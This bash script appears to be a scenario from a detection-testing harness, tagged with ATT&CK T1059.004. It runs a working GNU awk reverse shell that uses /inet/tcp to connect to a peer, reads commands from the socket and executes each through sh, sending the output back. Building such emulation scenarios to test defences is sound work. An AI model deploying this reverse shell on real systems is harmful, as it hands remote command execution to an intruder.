#!/usr/bin/env bash
# Reverse shell: GNU awk's /inet/tcp special file; awk reads commands from the socket and runs
# each through sh, sending the output back. The key process is awk, which holds the socket.
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-awk T1059.004
scn_require gawk
scn_attacker_listen 4453
gawk -v peer="$SCN_PEER" -v port="$SCN_PORT" 'BEGIN {
    s = "/inet/tcp/0/" peer "/" port
    while (1) {
        if ((s |& getline c) <= 0) break
        if (c == "exit") break
        while ((c | getline line) > 0) print line |& s
        close(c)
    }
    close(s)
}' 2>/dev/null &
awkpid=$!
scn_track $awkpid
printf 'SCENARIO-INFO awk_pid=%s\n' "$awkpid"
scn_shell_finish "$awkpid"
